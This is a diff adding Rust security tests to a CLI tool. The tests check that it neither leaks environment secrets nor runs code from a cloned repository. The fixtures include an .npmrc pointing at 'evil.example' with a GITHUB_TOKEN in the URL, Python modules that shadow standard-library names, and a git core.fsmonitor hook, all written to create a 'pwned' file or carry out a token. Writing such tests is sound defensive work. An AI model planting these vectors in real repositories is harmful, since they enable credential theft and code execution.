@@ -190,3 +190,78 @@ fn a_link_within_the_project_is_a_document_like_any_other() {
     assert!(context.read("docs/STATE.md").contains("kept in docs"));
     assert!(context.project().join(".planning/STATE.md").is_symlink());
 }
+
+/// Puts programs on the path that note where they run and what they are told.
+fn programs(context: &TestContext, scripts: &[(&str, &str)]) -> String {
+    use std::os::unix::fs::PermissionsExt;
+    let folder = context.home().join("bin");
+    std::fs::create_dir_all(&folder).unwrap();
+    for (name, script) in scripts {
+        let script = format!("#!/bin/sh\n(pwd; env) > '{}/seen-{name}'\n{script}\n", context.home().display());
+        std::fs::write(folder.join(name), script).unwrap();
+        std::fs::set_permissions(folder.join(name), std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+    format!("{}:{}", folder.display(), std::env::var("PATH").unwrap())
+}
+
+#[test]
+fn a_look_at_the_registry_takes_nothing_from_the_clone_and_no_key_along() {
+    let (context, _) = clone_with(&[(".npmrc", "registry=https://evil.example/${GITHUB_TOKEN}/\n")]);
+    // npm reads the settings of the folder it runs in, and puts variables into them.
+    let npm = "if [ -f .npmrc ]; then sed -n \"s/^registry=//; s/[$]{GITHUB_TOKEN}/$GITHUB_TOKEN/; p\" .npmrc | head -1; \
+               else echo https://registry.npmjs.org/; fi";
+    let curl = "cat >> \"$HOME/told\"; printf '{\"version\":\"0.0.1\"}\\n200'";
+    let path = programs(&context, &[("npm", npm), ("curl", curl)]);
+    let variables = [("PATH", path.as_str()), ("GITHUB_TOKEN", "ghp_secret"), ("AWS_SECRET_ACCESS_KEY", "aws_secret")];
+    context.gsd_with(["update-check"], &variables, "").success();
+    let answer = context.gsd_with(["package-legitimacy", "check", "--ecosystem", "npm", "left"], &variables, "").json();
+    let why = answer[0]["unreachable"].as_str().unwrap();
+    assert!(why.contains(".npmrc` names `https://evil.example/${GITHUB_TOKEN}/"), "{why}");
+    let told = std::fs::read_to_string(context.home().join("told")).unwrap();
+    assert!(told.contains("https://registry.npmjs.org/gsd-tools/latest") && !told.contains("evil"), "{told}");
+    for program in ["npm", "curl"] {
+        let seen = std::fs::read_to_string(context.home().join(format!("seen-{program}"))).unwrap();
+        assert!(!seen.contains("_secret"), "{program} got a key: {seen}");
+        assert_eq!(seen.lines().next(), context.home().canonicalize().unwrap().to_str(), "{program} runs in the clone");
+    }
+}
+
+#[test]
+fn no_code_of_a_clone_runs_when_a_program_is_asked_for_its_version() {
+    let (context, _) = clone_with(&[(".planning/config.json", r#"{"graphify":{"enabled":true}}"#)]);
+    let evil = format!("open({:?}, 'w').write('x')\n", context.home().join("pwned"));
+    for module in ["re.py", "csv.py", "email.py"] {
+        context.write(module, &evil);
+    }
+    let path = programs(&context, &[("graphify", "echo 1.0")]);
+    context.gsd_with(["graphify", "build"], &[("PATH", &path)], "").success();
+    assert!(context.home().join("seen-graphify").exists(), "it was not asked at all");
+    assert!(!context.home().join("pwned").exists());
+}
+
+#[test]
+fn questions_to_git_start_no_program_of_the_repository_and_leave_its_index_alone() {
+    let (context, _) = clone_with(&[(".planning/STATE.md", STATE)]);
+    let git = |words: &[&str]| assert!(context.command("git").args(words).status().unwrap().success(), "{words:?}");
+    let watch = context.home().join("watch.sh");
+    std::fs::write(&watch, format!("#!/bin/sh\ntouch '{}/pwned'\n", context.home().display())).unwrap();
+    std::fs::set_permissions(&watch, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    git(&["init", "-q", "-b", "main"]);
+    git(&["add", "."]);
+    git(&["commit", "-qm", "chore: begin"]);
+    git(&["config", "core.fsmonitor", watch.to_str().unwrap()]);
+    let index = || std::fs::read(context.project().join(".git/index")).unwrap();
+    // The same bytes at another time: git would note the time in its index.
+    std::fs::File::open(context.project().join(".planning/STATE.md"))
+        .unwrap()
+        .set_modified(std::time::SystemTime::now())
+        .unwrap();
+    let before = index();
+    for call in
+        [&["smart-entry", "--json"][..], &["init", "execute-phase", "1"], &["init", "progress"], &["check-commit"]]
+    {
+        let _ = context.gsd_with(call, &[], "");
+    }
+    assert!(!context.home().join("pwned").exists());
+    assert_eq!(index(), before);
+}
